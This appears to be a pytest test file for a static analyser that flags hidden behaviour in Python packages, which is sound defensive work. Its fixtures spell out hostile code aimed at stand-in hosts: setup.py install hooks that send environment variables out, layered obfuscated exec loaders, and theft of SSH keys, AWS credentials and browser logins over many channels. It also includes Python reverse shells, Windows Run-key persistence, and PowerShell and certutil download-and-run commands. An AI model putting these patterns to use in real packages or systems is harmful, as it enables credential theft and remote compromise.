"""What Python packages do to hide what they do, technique by technique: how it starts, is wrapped, and leaves."""

# ruff: noqa: ISC004 - small programs, each a few strings

import base64
import lzma
import re
import textwrap
import zlib

import pytest
from tests.static.reading import package, seen, short

from biopsy.model.behaviour import When

SENDS = 'import os, urllib.request\nurllib.request.urlopen("https://h.example/x", repr(dict(os.environ)).encode())\n'
FLOW = "code.flow env:* > network"


def told(source: str, path: str = "pkg/__init__.py", when: When = When.IMPORT) -> list[str]:
    return seen(textwrap.dedent(source), path, when)


def at(behaviours: list[str], what: str, moment: str) -> bool:
    return any(b.startswith(what) and b.endswith(f"({moment})") for b in behaviours)


SETUP = """
    from setuptools import setup
    from setuptools.command.{command} import {command} as base

    def prepare():
        import os, urllib.request
        urllib.request.urlopen("https://h.example/x", repr(dict(os.environ)).encode())

    class Middle(base):
        def run(self):
            super().run()
            self.more()

        def more(self):
            {call}

    class Own(Middle):
        pass

    setup(name="x", cmdclass={{"{command}": Own}})
"""


@pytest.mark.parametrize("command", ["install", "develop", "egg_info", "build_py", "build_ext", "sdist"])
def test_what_a_command_of_setup_py_calls_happens_at_install(command: str) -> None:
    assert at(
        told(SETUP.format(command=command, call="prepare()"), "setup.py", When.INSTALL), FLOW, "install"
    )


def test_a_command_may_hand_its_function_to_distutils() -> None:
    source = SETUP.format(command="build_py", call="self.execute(prepare, (), msg='')")
    assert at(told(source, "setup.py", When.INSTALL), FLOW, "install")


def test_a_function_that_no_command_calls_does_not_happen_at_install() -> None:
    assert not at(
        told(SETUP.format(command="build_py", call="pass"), "setup.py", When.INSTALL), FLOW, "install"
    )


def test_the_command_for_those_who_test_is_not_made_at_install() -> None:
    source = """
        from setuptools import setup
        from somewhere import Base
        import os

        class Own(Base):
            def run(self):
                os.system("pytest")

        setup(name="x", cmdclass={"test": Own})
    """
    assert at(told(source, "setup.py", When.INSTALL), "process.exec pytest", "call")


HEX = SENDS.encode().hex()
B64 = base64.b64encode(SENDS.encode()).decode()
LZMA = base64.a85encode(lzma.compress(SENDS.encode()))
XOR = bytes(b ^ 0x5A for b in SENDS.encode())
KEYED = bytes(a ^ b for a, b in zip(SENDS.encode(), b"key7" * 100, strict=False)).hex()


@pytest.mark.parametrize(
    "source",
    [
        f"import lzma, base64\nt = lzma.decompress(base64.a85decode({LZMA!r}))\nexec(compile(t, '', 'exec'))",
        f"n = int('{HEX}', 16)\nexec(n.to_bytes((n.bit_length() + 7) // 8 or {len(SENDS)}, 'big'))",
        f"exec(int('{HEX}', 16).to_bytes({len(SENDS)}, byteorder='big').decode())",
        "from itertools import cycle\ndef plain(data, key):\n"
        "    return bytes(a ^ b for a, b in zip(data, cycle(key)))\n"
        f"exec(plain(bytes.fromhex('{KEYED}'), b'key7'))",
        "import base64\nclass Box:\n    @property\n    def plain(self):\n"
        f"        return base64.b64decode('{B64}')\nexec(Box().plain)",
        "import base64, functools\nclass Box:\n    @staticmethod\n    def plain(t):\n        return base64.b64decode(t)\n"
        f"d = dict(go=Box.plain)\nrun = functools.partial(exec)\nfor one in [d['go']('{B64}')]:\n    run(one)",
        f"data = bytearray()\nfor n in {list(SENDS.encode())}:\n    data.append(n)\nexec(bytes(data))",
        f"import io\nb = io.BytesIO()\nb.write(bytes.fromhex('{HEX}'))\nexec(b.getvalue())",
        "import base64, runpy, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as f:\n"
        f"    f.write(base64.b64decode('{B64}').decode())\nrunpy.run_path(f.name)",
        "import base64, os, subprocess, sys, tempfile\nfd, path = tempfile.mkstemp()\n"
        f"os.write(fd, base64.b64decode('{B64}'))\nsubprocess.Popen([sys.executable, path])",
        f"open('/tmp/x.txt', 'w').write({SENDS!r})\nexec(open('/tmp/x.txt').read())",
        f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {SENDS!r}])",
        f"getattr(__import__('builtins'), 'ex' + 'ec')(getattr(bytes.fromhex('{HEX}'), 'dec' + 'ode')())",
    ],
)
def test_a_wrapped_text_is_read_when_it_runs(source: str) -> None:
    assert at(seen(source), FLOW, "import")


@pytest.mark.parametrize(
    "source",
    [
        "import os\nfor top, _, names in os.walk(os.path.dirname(os.path.abspath(__file__))):\n"
        "    if 'words.dat' in names:\n"
        "        exec(bytes(b ^ 90 for b in open(os.path.join(top, 'words.dat'), 'rb').read()))",
        "import glob, os\nfor name in glob.glob(os.path.join(os.path.dirname(__file__), 'data', '*.dat')):\n"
        "    exec(bytes(b ^ 90 for b in open(name, 'rb').read()).decode())",
        "from pathlib import Path\nfor file in Path(__file__).parent.rglob('*.dat'):\n"
        "    exec(bytes(b ^ 90 for b in file.read_bytes()))",
        "import os\nfor name in os.listdir(os.path.join(os.path.dirname(__file__), 'data')):\n"
        "    with open(os.path.join(os.path.dirname(__file__), 'data', name), 'rb') as f:\n"
        "        exec(bytes(b ^ 90 for b in f.read()))",
    ],
)
def test_code_in_a_data_file_is_found_where_a_folder_is_searched_for_it(source: str) -> None:
    files: dict[str, str | bytes] = {
        "pkg/__init__.py": source,
        "pkg/data/words.dat": XOR,
        "pkg/data/a.txt": "",
    }
    assert at(package(files, {"pkg/__init__.py": When.IMPORT}), FLOW, "import")


SECRET = 'open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()'


@pytest.mark.parametrize(
    "source",
    [
        f'import ftplib, io\nwith ftplib.FTP_TLS("h.example") as f:\n    f.storbinary("STOR x", io.BytesIO({SECRET}))',
        "import smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\n"
        f'm.set_content({SECRET}.hex())\nwith smtplib.SMTP_SSL("h.example", 465) as s:\n    s.send_message(m)',
        'import socket, ssl\nraw = socket.create_connection(("h.example", 443))\n'
        f"wire = ssl.create_default_context().wrap_socket(raw)\nwire.sendall({SECRET})",
        f'import http.client\nc = http.client.HTTPSConnection("h.example")\nc.request("POST", "/", body={SECRET})',
        f'import urllib.request\nr = urllib.request.Request("https://h.example/")\nr.data = {SECRET}\n'
        "urllib.request.urlopen(r)",
        f'import urllib.request\nr = urllib.request.Request("https://h.example/")\n'
        f'r.add_header("X-K", {SECRET}.hex())\nurllib.request.urlopen(r)',
        f'import subprocess\nsubprocess.run(["nslookup", {SECRET}.hex()[:60] + ".h.example"])',
        f'os.system("getent hosts " + {SECRET}.hex()[:60] + ".h.example")',
        f'import socket\nsocket.getaddrinfo({SECRET}.hex()[:60] + ".h.example", 80)',
        'import io, zipfile, requests\nb = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n'
        '    z.write(os.path.expanduser("~/.ssh/id_rsa"))\nrequests.post("https://h.example", data=b.getvalue())',
        'import io, tarfile, requests\nb = io.BytesIO()\nwith tarfile.open(fileobj=b, mode="w:gz") as t:\n'
        '    t.add(os.path.expanduser("~/.ssh/id_rsa"))\nrequests.post("https://h.example", data=b.read())',
        f'import re, requests\nfor k in re.findall(rb"KEY(.*)", {SECRET}):\n'
        '    requests.post("https://h.example", data=k)',
        'import configparser, requests\nc = configparser.ConfigParser()\nc.read(os.path.expanduser("~/.ssh/id_rsa"))\n'
        'requests.post("https://h.example", data=c["a"]["b"])',
        "import aiohttp\nclass C:\n    def __init__(self):\n        self.s = aiohttp.ClientSession()\n"
        f'    async def go(self):\n        await self.s.post("https://h.example", data={SECRET})\n'
        "import asyncio\nasyncio.run(C().go())",
    ],
)
def test_a_secret_leaves_by_any_door(source: str) -> None:
    assert "code.flow file:~/.ssh/id_rsa > network" in short(seen(f"import os\n{source}"))


@pytest.mark.parametrize(
    ("source", "flow"),
    [
        ('glob.glob(os.path.expanduser("~/.aws/cred*"))', "file:~/.aws/cred*"),
        ('Path.home().glob(".ssh/id_*")', "file:~/.ssh/id_?"),
        ('sorted(Path(os.path.expandvars("$HOME/.ssh")).iterdir())', "file:~/.ssh/?"),
        (
            '[os.path.join(t, n) for t, _, ns in os.walk(os.path.expanduser("~/.ssh")) for n in ns]',
            "file:~/.ssh/?",
        ),
        ('[e.path for e in os.scandir(os.path.expanduser("~/.ssh"))]', "file:~/.ssh/?"),
    ],
)
def test_what_stands_in_a_folder_is_met_as_paths(source: str, flow: str) -> None:
    text = (
        f"import glob, os, requests\nfrom pathlib import Path\nfor f in {source}:\n"
        '    requests.post("https://h.example", data=open(f).read())'
    )
    assert f"code.flow {flow} > network" in short(seen(text))


@pytest.mark.parametrize(
    "source",
    [
        'for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn("/bin/bash")',
        'for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(["/bin/sh", "-i"])',
        'subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)',
    ],
)
def test_a_shell_on_a_connection_is_a_reverse_shell(source: str) -> None:
    text = (
        f'import os, pty, socket, subprocess\ns = socket.socket()\ns.connect(("h.example", 4444))\n{source}'
    )
    assert "process.does reverse-shell python" in short(seen(text))


def test_a_shell_on_a_terminal_is_none() -> None:
    text = "import os, pty, subprocess\nm, t = pty.openpty()\nos.dup2(t, 0)\npty.spawn('/bin/bash')"
    assert not any("reverse-shell" in b for b in seen(text))


def test_a_request_that_decides_what_runs_is_a_flow() -> None:
    source = """
        from flask import request
        import subprocess

        def page():
            return subprocess.check_output(request.args.get("c"), shell=True)
    """
    assert at(told(source), "code.flow request > execution", "call")
    assert "code.flow request > execution" in short(
        seen("def view(request):\n    return eval(request.GET['x'])")
    )
    assert "code.flow request > execution" not in short(
        seen("def view(request):\n    return eval(request.name)")
    )


def test_a_clipboard_that_is_put_back_changed_is_swapped() -> None:
    source = """
        import re, subprocess
        text = subprocess.run(["xclip", "-o"], capture_output=True, text=True).stdout
        subprocess.run(["xclip"], input=re.sub("a", "b", text), text=True)
    """
    assert "process.does clipboard-swap" in short(told(source))
    assert "process.does clipboard-swap" not in short(
        told('import subprocess\nsubprocess.run(["xclip"], input="a")')
    )


def test_a_literal_pickle_is_read_as_a_file() -> None:
    found = seen("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'curl https://h.example/x'\\ntR.\")")
    assert any(b.startswith("code.eval pickle os.system @ pkg/__init__.py!/") for b in found)


def test_a_datagram_that_is_run_came_from_the_network() -> None:
    source = """
        import socket
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
            wire.sendto(b"x", ("192.0.2.53", 53))
            exec(wire.recv(4096)[12:])
    """
    found = short(told(source))
    assert {"code.flow network > execution", "net.connect 192.0.2.53:53"} <= found


def _packed(times: int) -> str:
    code = b"import os, urllib.request\nurllib.request.urlopen('https://c.example', str(dict(os.environ)).encode())"
    for _ in range(times):
        code = b"exec(__import__('zlib').decompress(__import__('base64').b64decode(%r)))" % (
            base64.b64encode(zlib.compress(code))
        )
    return code.decode()


@pytest.mark.parametrize("times", [6, 30, 80])
def test_code_that_is_packed_again_and_again_is_peeled_to_the_last_layer(times: int) -> None:
    assert "code.flow env:* > network @ pkg/__init__.py:1 (import)" in seen(_packed(times))


def test_more_layers_than_are_peeled_are_told() -> None:
    assert any(
        b.startswith("pkg.malformed pkg/__init__.py not read: too-many layers") for b in seen(_packed(130))
    )


@pytest.mark.parametrize("opener", ["winreg.OpenKey", "winreg.CreateKeyEx", "__import__('winreg').CreateKey"])
def test_an_entry_among_programs_that_start_with_windows_is_told(opener: str) -> None:
    code = f"""import winreg
key = {opener}(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, 2)
winreg.SetValueEx(key, "Update", 0, winreg.REG_SZ, "python -m thing")
"""
    assert "process.does persist run-key @ pkg/__init__.py:3 (import)" in seen(code)
    assert not any("persist" in b for b in seen(code.replace("\\Run", "\\Themes")))


def test_a_secret_that_is_copied_first_is_seen_to_leave() -> None:
    code = """import os, shutil, sqlite3, requests
place = os.path.expanduser("~/.config/google-chrome/Default/Login Data")
shutil.copy2(place, "x.db")
cursor = sqlite3.connect("x.db").cursor()
cursor.execute("select * from logins")
found = []
for row in cursor.fetchall():
    found.append(row[0])
requests.post("https://c.example/b", data=str(found))
"""
    flow = "code.flow file:~/.config/google-chrome/Default/Login Data > network"
    assert flow in short(seen(code))
    assert flow not in short(seen(code.replace('connect("x.db")', 'connect("y.db")')))


@pytest.mark.parametrize(
    "command",
    [
        'powershell -c "iwr https://c.example/a.exe -OutFile $env:TEMP\\\\a.exe; Start-Process $env:TEMP\\\\a.exe"',
        "powershell \"(New-Object Net.WebClient).DownloadFile('https://c.example/a.exe','a.exe'); Start-Process 'a.exe'\"",
        "certutil -urlcache -split -f https://c.example/a.exe a.exe && a.exe",
        "bitsadmin /transfer j https://c.example/a.exe %TEMP%\\\\a.exe & %TEMP%\\\\a.exe",
    ],
)
def test_what_a_command_of_windows_saves_and_starts_came_from_the_network(command: str) -> None:
    assert "code.flow network > execution" in short(seen(f"import os\nos.system({command!r})"))
    only_saved = re.split("[;&]", command)[0]
    assert "code.flow network > execution" not in short(seen(f"import os\nos.system({only_saved!r})"))
